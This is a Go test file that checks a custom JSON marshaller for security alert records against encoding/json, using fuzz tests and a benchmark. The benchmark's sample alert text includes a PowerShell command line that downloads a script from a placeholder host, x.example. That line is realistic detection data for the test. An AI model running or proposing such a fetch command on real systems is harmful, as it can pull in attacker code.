package envelope

import (
	"bytes"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"reflect"
	"strings"
	"testing"
	"time"
)

// tricky strings: every kind of character Marshal must escape or keep.
var tricky = []string{"", "plain", `<script>&"quotes"\back`, "tab\tnew\nline\rcr\bbs\ffeed\x00nul\x1fus", "é😀\u2028\u2029", "bad\xffutf8", strings.Repeat("x", 70000)}

// fill sets every field of v (recursively) to a non-zero value derived from i, so that a field
// Marshal forgets shows up as a difference.
func fill(v reflect.Value, i int) {
	switch v.Kind() {
	case reflect.String:
		v.SetString(tricky[i%len(tricky)] + fmt.Sprint(i))
	case reflect.Int64:
		v.SetInt(int64(i*1000 - 7))
	case reflect.Pointer:
		v.Set(reflect.New(v.Type().Elem()))
		fill(v.Elem(), i)
	case reflect.Slice:
		if v.Type() == reflect.TypeFor[json.RawMessage]() {
			v.SetBytes([]byte(`{"id":"da1","x":[1,2,{"y":"<&>"}]}`))
			return
		}
		v.Set(reflect.MakeSlice(v.Type(), 2, 2))
		for k := range 2 {
			fill(v.Index(k), i+k+1)
		}
	case reflect.Struct:
		if v.Type() == reflect.TypeFor[time.Time]() {
			v.Set(reflect.ValueOf(time.Date(2026, 1, 2, 3, 4, 5, i*100, time.UTC)))
			return
		}
		for k := range v.NumField() {
			fill(v.Field(k), i+k)
		}
	default:
		panic("fill: unhandled kind " + v.Kind().String())
	}
}

// tokens reads a JSON document as its sequence of tokens: keys in order, values decoded.
func tokens(t *testing.T, b []byte) []any {
	t.Helper()
	d := json.NewDecoder(bytes.NewReader(b))
	var out []any
	for {
		tok, err := d.Token()
		if errors.Is(err, io.EOF) {
			return out
		}
		if err != nil {
			t.Fatalf("%v in %.200s", err, b)
		}
		out = append(out, tok)
	}
}

// TestMarshalMatchesEncodingJSON: Marshal writes what encoding/json writes for the same Alert,
// byte for byte (and, to show where they part, token by token: keys in order, values), for alerts with every field set (with
// characters to escape, long strings, invalid UTF-8), every field empty, and in between.
func TestMarshalMatchesEncodingJSON(t *testing.T) {
	full := func(i int) *Alert {
		var a Alert
		fill(reflect.ValueOf(&a).Elem(), i)
		return &a
	}
	empty := &Alert{UpdatedAt: time.Date(2026, 1, 2, 3, 4, 5, 0, time.UTC)}
	partial := full(3)
	partial.Title, partial.Entities, partial.MitreTactics, partial.Raw = nil, []Entity{{Type: "device"}}, []string{}, nil
	cases := map[string]*Alert{"empty": empty, "partial": partial}
	for i := range len(tricky) {
		cases[fmt.Sprint("full ", i)] = full(i)
	}
	for name, a := range cases {
		t.Run(name, func(t *testing.T) {
			got, err := Marshal(a)
			if err != nil {
				t.Fatal(err)
			}
			if !json.Valid(got) {
				t.Fatalf("invalid JSON: %.300s", got)
			}
			var want bytes.Buffer
			enc := json.NewEncoder(&want)
			enc.SetEscapeHTML(false)
			if err := enc.Encode(a); err != nil {
				t.Fatal(err)
			}
			if w := bytes.TrimSuffix(want.Bytes(), []byte("\n")); !bytes.Equal(got, w) {
				k := 0
				for k < min(len(got), len(w)) && got[k] == w[k] {
					k++
				}
				from := max(0, k-40)
				t.Errorf("bytes differ from encoding/json's at %d:\n got  …%.120q\n want …%.120q", k, got[from:], w[from:])
			}
			if g, w := tokens(t, got), tokens(t, want.Bytes()); !reflect.DeepEqual(g, w) {
				for k := range min(len(g), len(w)) {
					if !reflect.DeepEqual(g[k], w[k]) {
						t.Fatalf("token %d: got %.80q, encoding/json wrote %.80q", k, g[k], w[k])
					}
				}
				t.Fatalf("%d tokens, encoding/json wrote %d", len(g), len(w))
			}
		})
	}
}

// TestMarshalRefusesWhatJSONCannotWrite: a time outside years 0–9999 is an error, as with
// encoding/json (the sink then publishes the alert as a dead letter).
func TestMarshalRefusesWhatJSONCannotWrite(t *testing.T) {
	a := &Alert{UpdatedAt: time.Date(10000, 1, 1, 0, 0, 0, 0, time.UTC)}
	if _, err := Marshal(a); err == nil {
		t.Error("a year-10000 time was written")
	}
}

// FuzzAppendString: any string is written as encoding/json writes it (HTML escaping off).
func FuzzAppendString(f *testing.F) {
	for _, s := range tricky {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		var want bytes.Buffer
		enc := json.NewEncoder(&want)
		enc.SetEscapeHTML(false)
		if err := enc.Encode(s); err != nil {
			t.Fatal(err)
		}
		if got, w := appendString(nil, s), bytes.TrimSuffix(want.Bytes(), []byte("\n")); !bytes.Equal(got, w) {
			t.Errorf("appendString(%q) = %s, encoding/json wrote %s", s, got, w)
		}
	})
}

// BenchmarkAppendString is the JSON writing of an alert's typical text: a long plain
// description, a Windows path and a command line with quotes.
func BenchmarkAppendString(b *testing.B) {
	texts := []string{
		strings.Repeat("A process ran a command line that looks like an attack. ", 20),
		`C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`,
		`powershell.exe -NoProfile -Command "Invoke-WebRequest -Uri 'http://x.example/a.ps1'"`,
	}
	n := 0
	for _, t := range texts {
		n += len(t)
	}
	b.SetBytes(int64(n))
	var buf []byte
	for b.Loop() {
		for _, t := range texts {
			buf = appendString(buf[:0], t)
		}
	}
}
